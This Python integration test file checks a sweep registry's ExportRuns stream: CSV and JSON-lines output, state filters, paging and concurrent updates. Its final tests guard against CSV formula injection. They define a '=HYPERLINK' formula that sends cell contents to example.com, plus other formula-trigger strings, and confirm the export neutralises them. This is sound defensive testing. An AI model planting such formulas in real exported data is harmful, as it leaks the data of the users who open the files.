"""ExportRuns: the runs of a sweep as a stream of text."""

from __future__ import annotations

import csv
import io
import json
import math
from datetime import UTC, datetime
from typing import Any

from google.protobuf import field_mask_pb2
from grpc import StatusCode

from tests.errors import rpc_fails
from tests.integration.registry.reads import get_run
from tests.sweeps import Registry, create_runs, create_sweep, finish_run, proposal, row
from wanllmdb.api.registry.v1 import registry_service_pb2 as pb
from wanllmdb.api.registry.v1 import run_pb2
from wanllmdb_common.internal.registry.v1 import internal_registry_service_pb2 as internal_pb
from wanllmdb_common.search_space.proto_conversion import parameters_to_proto

RUN_COLUMNS = [
    "number",
    "state",
    "attempt",
    "last_step",
    "name",
    "agent_id",
    "start_time",
    "end_time",
    "duration_seconds",
    "error",
]


async def export(
    registry: Registry, sweep_id: str, *, json_lines: bool = False, **filters: Any
) -> list[bytes]:
    """Return the pieces of the stream."""
    form = pb.RUN_FORMAT_JSON_LINES if json_lines else pb.RUN_FORMAT_UNSPECIFIED
    request = pb.ExportRunsRequest(sweep_id=sweep_id, format=form, **filters)
    return [piece.data async for piece in registry.ExportRuns(request)]


def table(pieces: list[bytes]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(b"".join(pieces).decode(), newline="")))


def lines(pieces: list[bytes]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in b"".join(pieces).decode().splitlines()]


async def ended(registry: Registry) -> str:
    """Return a sweep with a finished, a failed, a running and a queued run."""
    sweep = await create_sweep(registry)
    await create_runs(registry, sweep.sweep_id, proposal(0, x=0.25), proposal(1), proposal(2))
    rows = [row(0, {"loss": 2.0, "acc": 0.5}), row(4, {"z": math.inf, "acc": math.nan})]
    await registry.FinishRun(
        pb.FinishRunRequest(
            sweep_id=sweep.sweep_id,
            number=0,
            attempt=1,
            rows=rows,
            succeeded=pb.RunSucceeded(objective=1.5),
            config=parameters_to_proto({"seed": 7, "cut": math.nan, "deep": {"a": [1]}}),
        )
    )
    error = run_pb2.RunError(message='no "memory",\nsorry', traceback="long")
    await registry.FinishRun(
        pb.FinishRunRequest(
            sweep_id=sweep.sweep_id,
            number=1,
            attempt=1,
            rows=[row(1, {"loss": 9.0})],
            failed=pb.RunFailed(error=error),
        )
    )
    await registry.EnqueueRuns(
        pb.EnqueueRunsRequest(
            sweep_id=sweep.sweep_id,
            runs=[pb.EnqueuedRun(parameters=parameters_to_proto({"n": 3}), labels={"why": "é"})],
        )
    )
    return sweep.sweep_id


async def test_a_table_has_a_row_a_run_and_a_column_a_name(registry: Registry) -> None:
    sweep_id = await ended(registry)
    rows = table(await export(registry, sweep_id))
    assert list(rows[0]) == [*RUN_COLUMNS, "n", "x", "loss", "acc", "z"]
    assert [r["state"] for r in rows] == ["FINISHED", "FAILED", "RUNNING", "QUEUED"]
    first, second, third, fourth = rows
    # The run's objective, not the value that it reported last.
    assert (first["loss"], first["acc"], first["z"]) == ("1.5", "NaN", "Infinity")
    assert (first["x"], first["n"], first["last_step"]) == ("0.25", "1", "4")
    assert (second["error"], second["loss"]) == ('no "memory",\nsorry', "9.0")
    assert (third["end_time"], third["duration_seconds"], third["loss"]) == ("", "", "")
    assert (fourth["n"], fourth["x"], fourth["start_time"]) == ("3", "", "")
    run = await get_run(registry, sweep_id, 0)
    start, end = (datetime.fromisoformat(first[name]) for name in ("start_time", "end_time"))
    assert first["start_time"].endswith("Z")
    assert start == run.start_time.ToDatetime(tzinfo=UTC)
    assert float(first["duration_seconds"]) == (end - start).total_seconds()


async def test_json_lines_keep_types(registry: Registry) -> None:
    sweep_id = await ended(registry)
    entries = lines(await export(registry, sweep_id, json_lines=True))
    assert list(entries[0]) == [*RUN_COLUMNS, "parameters", "metrics", "config", "labels"]
    first, second, _, fourth = entries
    assert first["parameters"] == {"n": 1, "x": 0.25}
    assert first["metrics"] == {"loss": 1.5, "acc": "NaN", "z": "Infinity"}
    assert first["config"] == {"seed": 7, "cut": "NaN", "deep": {"a": [1]}}
    assert (first["attempt"], first["last_step"], first["error"]) == (1, 4, None)
    assert second["error"] == 'no "memory",\nsorry'
    assert (fourth["labels"], fourth["attempt"]) == ({"why": "é"}, 0)


async def test_only_runs_in_the_states_asked_for(registry: Registry) -> None:
    sweep_id = await ended(registry)
    states = [run_pb2.RUN_STATE_FAILED, run_pb2.RUN_STATE_QUEUED]
    rows = table(await export(registry, sweep_id, states=states))
    assert [r["number"] for r in rows] == ["1", "3"]
    # Other metrics that runs reported have no column.
    assert "acc" not in rows[0]
    entries = lines(await export(registry, sweep_id, json_lines=True, states=states))
    assert [entry["number"] for entry in entries] == [1, 3]


async def test_no_runs_are_a_header_or_nothing(registry: Registry) -> None:
    sweep = await create_sweep(registry)
    assert await export(registry, sweep.sweep_id) == [
        ",".join([*RUN_COLUMNS, "n", "x", "loss"]).encode() + b"\n"
    ]
    assert await export(registry, sweep.sweep_id, json_lines=True) == []
    with rpc_fails(StatusCode.NOT_FOUND, "SWEEP_NOT_FOUND"):
        await export(registry, "gone")
    with rpc_fails(StatusCode.INVALID_ARGUMENT, "INVALID_REQUEST") as failure:
        await export(registry, sweep.sweep_id, states=[99])
    assert failure.fields.keys() == {"states"}


async def test_several_metrics_each_have_a_column(registry: Registry) -> None:
    metrics = [{"name": "b"}, {"name": "a", "goal": "maximize"}]
    sweep = await create_sweep(registry, metric=None, metrics=metrics)
    await create_runs(registry, sweep.sweep_id, proposal(0))
    await registry.FinishRun(
        pb.FinishRunRequest(
            sweep_id=sweep.sweep_id,
            number=0,
            attempt=1,
            succeeded=pb.RunSucceeded(objectives={"a": 1.0, "b": 2.0}),
        )
    )
    (only,) = table(await export(registry, sweep.sweep_id))
    assert list(only)[-2:] == ["b", "a"]
    assert (only["a"], only["b"]) == ("1.0", "2.0")


async def test_long_streams_come_in_pieces_of_whole_rows(registry: Registry) -> None:
    """Export reads pages of runs by number, and splits a page that exceeds a message."""
    sweep = await create_sweep(registry)
    for start in range(0, 1_500, 500):
        await create_runs(
            registry, sweep.sweep_id, *(proposal(start + i, n=i % 8 + 1) for i in range(500))
        )
    pieces = await export(registry, sweep.sweep_id)
    # The header and three pages.
    assert len(pieces) == 4
    assert all(piece.endswith(b"\n") for piece in pieces)
    assert [int(r["number"]) for r in table(pieces)] == list(range(1_500))

    big = "x" * 90_000
    sweep = await create_sweep(registry, parameters={"s": {"value": big}})
    for start in range(0, 60, 20):
        await create_runs(
            registry, sweep.sweep_id, *(proposal(start + i, s=big) for i in range(20))
        )
    pieces = await export(registry, sweep.sweep_id, json_lines=True)
    assert len(pieces) > 1
    assert max(map(len, pieces)) < 4 * 1024 * 1024
    assert [entry["number"] for entry in lines(pieces)] == list(range(60))


async def test_a_run_that_ends_meanwhile_is_written_once(registry: Registry) -> None:
    sweep = await create_sweep(registry)
    runs = await create_runs(registry, sweep.sweep_id, *map(proposal, range(600)))
    stream = registry.ExportRuns(pb.ExportRunsRequest(sweep_id=sweep.sweep_id))
    pieces: list[bytes] = []
    async for piece in stream:
        pieces.append(piece.data)
        if len(pieces) == 2:
            await finish_run(registry, runs[0], 1.0)
            await finish_run(registry, runs[599], 1.0)
    assert [int(r["number"]) for r in table(pieces)] == list(range(600))


FORMULA = '=HYPERLINK("http://example.com/?"&A1,"open")'
TEXTS = [
    FORMULA,
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\uff1d1",
    "'=1",
    "''=1",
]
HARMLESS = ["-1.5", "+2", "-inf", "a=b", "'quoted'", "'-", "-", "1e5", ""]


async def hostile(registry: Registry) -> str:
    """Return a sweep in which every kind of text is a spreadsheet formula."""
    sweep = await create_sweep(
        registry,
        metric={"name": "=loss"},
        parameters={"text": {"values": TEXTS + HARMLESS}, "x": {"min": -2.0, "max": -1.0}},
    )
    texts = TEXTS + HARMLESS
    points = [parameters_to_proto({"text": text, "x": -1.5}) for text in texts]
    proposals = [
        internal_pb.RunProposal(number=i, parameters=point) for i, point in enumerate(points)
    ]
    runs = await create_runs(registry, sweep.sweep_id, *proposals)
    for run in runs[1:]:
        await registry.FinishRun(
            pb.FinishRunRequest(
                sweep_id=sweep.sweep_id,
                number=run.number,
                attempt=1,
                rows=[row(0, {"=loss": -1.25, "@other": -math.inf})],
                succeeded=pb.RunSucceeded(),
            )
        )
    await registry.UpdateRun(
        pb.UpdateRunRequest(
            run=run_pb2.Run(sweep_id=sweep.sweep_id, number=1, name=FORMULA),
            update_mask=field_mask_pb2.FieldMask(paths=["name"]),
        )
    )
    await registry.FinishRun(
        pb.FinishRunRequest(
            sweep_id=sweep.sweep_id,
            number=0,
            attempt=1,
            failed=pb.RunFailed(error=run_pb2.RunError(message=FORMULA)),
        )
    )
    return sweep.sweep_id


async def test_no_cell_of_a_csv_is_a_formula(registry: Registry) -> None:
    sweep_id = await hostile(registry)
    pieces = await export(registry, sweep_id)
    found = table(pieces)
    for line in [list(found[0]), *(list(cells.values()) for cells in found)]:
        for cell in line:
            is_number = cell.lstrip("+-").replace(".", "").isdigit() or cell in (
                "-inf",
                "-Infinity",
            )
            assert is_number or not cell.lstrip(" ").startswith(tuple("=+-@\t\r\n\uff1d")), cell
    assert [cells["text"] for cells in found] == [f"'{text}" for text in TEXTS] + [
        "-1.5",
        "+2",
        "-inf",
        "a=b",
        "'quoted'",
        "''-",
        "'-",
        "1e5",
        "",
    ]
    assert (found[0]["error"], found[1]["name"]) == (f"'{FORMULA}", f"'{FORMULA}")
    assert (found[1]["'=loss"], found[1]["'@other"], found[1]["x"]) == (
        "-1.25",
        "-Infinity",
        "-1.5",
    )


async def test_raw_cells_are_as_they_were_given(registry: Registry) -> None:
    sweep_id = await hostile(registry)
    found = table(await export(registry, sweep_id, raw_cells=True))
    assert [cells["text"] for cells in found] == TEXTS + HARMLESS
    assert (found[0]["error"], found[1]["=loss"]) == (FORMULA, "-1.25")
    # JSON lines are not a table, so no text in them is a formula.
    assert lines(await export(registry, sweep_id, json_lines=True))[1]["name"] == FORMULA


async def test_what_was_quoted_comes_in_as_it_was(registry: Registry) -> None:
    sweep_id = await hostile(registry)
    text = b"".join(await export(registry, sweep_id)).decode()
    spec = {
        "metric": {"name": "=loss"},
        "parameters": {"text": {"values": TEXTS + HARMLESS}, "x": {"min": -2.0, "max": -1.0}},
    }
    other = await create_sweep(registry, **spec)
    await registry.ImportRuns(
        pb.ImportRunsRequest(sweep_id=other.sweep_id, source=pb.PriorRunSource(csv=text))
    )
    listed = await registry.ListPriorRuns(pb.ListPriorRunsRequest(sweep_id=other.sweep_id))
    assert [run.parameters["text"].string_value for run in listed.runs] == TEXTS + HARMLESS
    assert [list(run.objectives) for run in listed.runs] == [[]] + [[-1.25]] * (
        len(listed.runs) - 1
    )
